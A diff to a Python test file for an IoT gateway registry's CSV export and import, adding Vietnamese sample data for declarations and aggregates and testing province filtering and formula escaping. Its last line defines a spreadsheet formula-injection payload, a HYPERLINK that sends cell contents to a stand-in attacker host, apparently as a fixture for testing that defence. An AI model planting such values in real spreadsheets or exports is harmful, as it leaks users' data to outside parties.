@@ -6,16 +6,17 @@ from pathlib import Path
 
 import pytest
 from iotgw.registry import make_engine, seed_admin_units, session_factory, upgrade
-from iotgw.registry.csv_export import export_csv
+from iotgw.registry.csv_export import export_csv, records
 from iotgw.registry.csv_import import import_csv
 from iotgw.registry.spreadsheet_cells import restored_cell, safe_cell
 from sqlalchemy.orm import Session
 
 FILES = {
-    "organisations": "id,name,type,sector,ward_code,since\n"
+    "organisations": "id,name,type,sector,ward_code,since,open_data\n"
                      'coop-1,"HTX Tân Hiệp, ""Lúa sạch""",agricultural_cooperative,agriculture,70,'
-                     "2025-03-01\n"
-                     "factory-1,Nhà máy 1,factory,industry,73,2024-12-31\n",
+                     "2025-03-01,false\n"
+                     "factory-1,Nhà máy 1,factory,industry,73,2024-12-31,true\n"
+                     "farm-1,Trại 1,farm,agriculture,73,2024-12-31,\n",
     "gateways": "id,ward_code,organisation_id,installed_on,latitude,longitude\n"
                 "gw-1,70,coop-1,2025-04-01,10.5,105.6\ngw-2,73,,2025-04-02,,\n",
     "devices": "id,gateway_id,profile,sector,expected_interval_s,installed_on,ward_code,"
@@ -25,6 +26,12 @@ FILES = {
                "d-3,gw-2,air_quality,environment,60,2025-04-03,73,,2025-09-30\n",
     "reference_counts": "level,unit_code,org_type,year,count,source\n"
                         "ward,70,farm,2024,12,Thống kê 2024\n",
+    "declarations": "organisation_id,subject,declared_on,holds,level,source\n"
+                    "factory-1,mes,2025-06-01,true,3,Khảo sát Sở KH&CN 2025\n"
+                    "factory-1,mes,2026-01-15,false,,=Tự khai\n",
+    "aggregates": "measure,level,unit_code,year,numerator,denominator,source\n"
+                  "e_invoice,province,1,2025,120,400,Cục Thuế\n"
+                  "ocop_traceable,former_province,75,2024,7,20,Cổng truy xuất\n",
 }
 
 
@@ -47,6 +54,12 @@ def test_export_reimports_to_the_same_registry(session: Session, tmp_path: Path)
     assert first["devices"].splitlines()[3] == (
         "d-3,73,,2025-04-03,2025-09-30,,,gw-2,air_quality,environment,60")
     assert '"HTX Tân Hiệp, ""Lúa sạch"""' in first["organisations"]
+    # open_data as given: opted out, opted in, by type (empty); a hand-written empty level too.
+    assert [line.rsplit(",", 1)[1] for line in first["organisations"].splitlines()] == [
+        "open_data", "false", "true", ""]
+    assert first["declarations"].splitlines()[1:] == [
+        "factory-1,mes,2025-06-01,true,3,Khảo sát Sở KH&CN 2025", "factory-1,mes,2026-01-15,false,,'=Tự khai"]
+    assert first["aggregates"].splitlines()[1] == "e_invoice,province,1,2025,120,400,Cục Thuế"
     fresh_engine = make_engine(f"sqlite:///{tmp_path / 'fresh.sqlite'}")
     upgrade(fresh_engine)
     with session_factory(fresh_engine)() as fresh:
@@ -54,6 +67,20 @@ def test_export_reimports_to_the_same_registry(session: Session, tmp_path: Path)
         for kind, text in first.items():
             import_csv(fresh, kind, io.StringIO(text), source=kind)  # type: ignore[arg-type]
         assert _export_all(fresh) == first
+
+
+def test_a_province_s_rows_of_declarations_and_aggregates(session: Session) -> None:
+    """Declarations go with their organisation's province, aggregates with their unit's (a
+    former province's with the province its wards are now in)."""
+    seed_admin_units(session)
+    for kind, text in FILES.items():
+        import_csv(session, kind, io.StringIO(text), source=kind)  # type: ignore[arg-type]
+    assert [r["declared_on"].isoformat() for r in records(session, "declarations", province=1)] == [
+        "2025-06-01", "2026-01-15"]  # factory-1 is in ward 73, of Hà Nội (1)
+    assert list(records(session, "declarations", province=75)) == []
+    assert [r["measure"] for r in records(session, "aggregates", province=1)] == ["e_invoice"]
+    assert [r["measure"] for r in records(session, "aggregates", province=75)] == ["ocop_traceable"]
+    assert list(records(session, "aggregates", province=82)) == []
 
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
